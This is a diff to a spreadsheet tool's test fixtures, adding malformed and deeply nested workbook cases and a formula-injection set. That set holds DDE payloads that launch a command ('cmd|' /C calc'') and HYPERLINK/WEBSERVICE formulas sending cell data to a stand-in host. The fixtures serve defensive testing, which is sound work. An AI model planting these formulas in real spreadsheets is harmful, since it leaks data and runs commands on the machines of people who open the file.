@@ -461,6 +461,18 @@ export const CASES: CraftedCase[] = [
     heavy: true,
   },
   {
+    id: 'deep-sheet',
+    what: 'a sheet nested 100 000 levels deep in its extension list, and a cell whose rich text nests 50 000 runs',
+    build: () =>
+      book({
+        sheet: (x) => x.replace('</worksheet>', `<extLst><ext uri="{D}" xmlns:d="urn:deep">${'<d:n>'.repeat(100000)}${'</d:n>'.repeat(100000)}</ext></extLst></worksheet>`),
+        staff: { extra: [['E2', ` t="inlineStr"><is>${'<r>'.repeat(50000)}<t>x</t>${'</r>'.repeat(50000)}</is></c>`]] },
+      }),
+    code: 0,
+    check: 'reread',
+    heavy: true,
+  },
+  {
     id: 'formula-cells-15m',
     what: 'a sheet of 15 million formula cells in a 520 KB file',
     build: () =>
@@ -471,10 +483,119 @@ export const CASES: CraftedCase[] = [
     code: 2,
     err: /trang "Công thức" làm vùng dữ liệu của sổ vượt 17 triệu ô/,
   },
+  // ---- what the output is (issue 20, items 5 and 6)
+  {
+    id: 'xlsb',
+    what: 'an Excel binary workbook (.xlsb): its workbook part is xl/workbook.bin',
+    build: () =>
+      book({
+        rels: (x) => x,
+        entries: (es) =>
+          es.map((e) =>
+            e.name === 'xl/workbook.xml'
+              ? { name: 'xl/workbook.bin', data: new Uint8Array([0x83, 0x01, 0x00, 0x80, 0x01, 0x00, 0x00, 0xff, 0xfe]) }
+              : e.name === '_rels/.rels'
+                ? { ...e, data: (e.data as string).replace('Target="xl/workbook.xml"', 'Target="xl/workbook.bin"') }
+                : e.name === '[Content_Types].xml'
+                  ? { ...e, data: (e.data as string).replace('PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"', 'PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"') }
+                  : e,
+          ),
+      }),
+    code: 2,
+    err: /là sổ Excel nhị phân \(\.xlsb\), không phải \.xlsx/,
+  },
+  {
+    id: 'template-type',
+    what: 'an .xltx template (the workbook part typed as a template), written as .xlsx: the copy is typed as a workbook',
+    build: () => book({ types: (x) => x.replace(CT.workbook, TEMPLATE_TYPE) }),
+    code: 0,
+    check: 'reread',
+  },
+  {
+    id: 'macro-type-without-macros',
+    what: 'a macro-enabled content type without any macro, written as .xlsx: the copy is typed as a plain workbook',
+    build: () => book({ types: (x) => x.replace(CT.workbook, MACRO_TYPE) }),
+    code: 0,
+    check: 'reread',
+  },
+  {
+    id: 'settings-sheet-upper-case',
+    what: 'a sheet named BINHXET_CAIDAT (the settings sheet\'s name in capitals): taken as the settings sheet, as Excel names ignore case',
+    build: () => book({ sheets: [['BINHXET_CAIDAT', `${DECL}<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>binh-xet settings v1</t></is></c></row></sheetData></worksheet>`, 'veryHidden']] }),
+    code: 0,
+    check: 'reread',
+  },
 ];
+
+export const TEMPLATE_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml';
+export const MACRO_TYPE = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
+export const WORKBOOK_TYPE = CT.workbook;
 
 export const caseById = (id: string): CraftedCase => {
   const c = CASES.find((x) => x.id === id);
   if (!c) throw new Error(`no crafted case ${id}`);
   return c;
 };
+
+// ---------------------------------------------------------------------------------------
+// Formula injection (issue 20, item 3): the same staff list, each person's note a text
+// that a spreadsheet would take for a formula, through CSV, .ods, .xls (made from the .ods
+// by LibreOffice in the test) and .xlsx. One real formula of the clerk's in the .ods and the
+// .xlsx (F2: =1+1) stays a formula.
+
+/** The notes: DDE and web-calling formulas, "@", "+", "-" and a tab or CR before "=". */
+export const INJECTIONS = [
+  '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
+  '=WEBSERVICE("http://x.example/?d="&B2)',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+] as const;
+
+export const INJECTION_PEOPLE = ['Nguyễn Văn An', 'Trần Thị Bình', 'Lê Văn Cường', 'Phạm Thị Dung', 'Hoàng Văn Em', 'Vũ Thị Hà', 'Đỗ Văn Khoa', 'Bùi Thị Lan'];
+const INJECTION_HEADER = ['STT', 'Họ và tên', 'Đơn vị', 'Xếp loại', 'Ghi chú'];
+const injectionRow = (i: number) => [String(i + 1), INJECTION_PEOPLE[i], i % 2 ? 'Phòng; Tổng hợp' : 'Văn phòng', RATINGS[i % 4], INJECTIONS[i]];
+
+/** As a CSV with ";" (cells quoted as a spreadsheet writes them: separators, quotes, line breaks). */
+export function injectionCsv(): string {
+  const q = (c: string) => (/[;"\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
+  return [INJECTION_HEADER, ...INJECTION_PEOPLE.map((_, i) => injectionRow(i))].map((r) => r.map(q).join(';')).join('\r\n') + '\r\n';
+}
+
+/** As Excel's "Unicode Text": UTF-16 LE with a byte order mark, tab-separated. */
+export function injectionUnicodeText(): Uint8Array {
+  const q = (c: string) => (/[\t"\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
+  const text = [INJECTION_HEADER, ...INJECTION_PEOPLE.map((_, i) => injectionRow(i))].map((r) => r.map(q).join('\t')).join('\r\n') + '\r\n';
+  return new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
+}
+
+/** As an OpenDocument spreadsheet: every note a string cell; F2 the clerk's formula =1+1. */
+export function injectionOds(): Uint8Array {
+  const ODS_NS =
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"';
+  const cell = (c: string) => `<table:table-cell office:value-type="string"><text:p>${esc(c).replace(/\t/g, '<text:tab/>').replace(/\r/g, '&#13;')}</text:p></table:table-cell>`;
+  const rows = [INJECTION_HEADER.map(cell).join(''), ...INJECTION_PEOPLE.map((_, i) => injectionRow(i).map(cell).join('') + (i === 0 ? '<table:table-cell table:formula="of:=1+1" office:value-type="float" office:value="2"><text:p>2</text:p></table:table-cell>' : ''))];
+  const content = `${DECL}<office:document-content ${ODS_NS} office:version="1.2"><office:body><office:spreadsheet><table:table table:name="Cán bộ">${rows.map((r) => `<table:table-row>${r}</table:table-row>`).join('')}</table:table></office:spreadsheet></office:body></office:document-content>`;
+  return buildZip([
+    { name: 'mimetype', data: 'application/vnd.oasis.opendocument.spreadsheet', method: 0 },
+    {
+      name: 'META-INF/manifest.xml',
+      data: `${DECL}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
+    },
+    { name: 'content.xml', data: content },
+  ]);
+}
+
+/** As an .xlsx: the notes as inline strings (what Excel keeps for text), F2 the clerk's formula. */
+export function injectionXlsx(): Uint8Array {
+  const rows = [INJECTION_HEADER, ...INJECTION_PEOPLE.map((_, i) => injectionRow(i))]
+    .map((r, ri) => {
+      const cells = r.map((c, ci) => `<c r="${col(ci)}${ri + 1}" t="inlineStr"><is><t xml:space="preserve">${esc(c).replace(/\r/g, '&#13;')}</t></is></c>`).join('');
+      return `<row r="${ri + 1}">${cells}${ri === 1 ? '<c r="F2"><f>1+1</f><v>2</v></c>' : ''}</row>`;
+    })
+    .join('');
+  return book({ sheet: () => `${DECL}<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData></worksheet>` });
+}
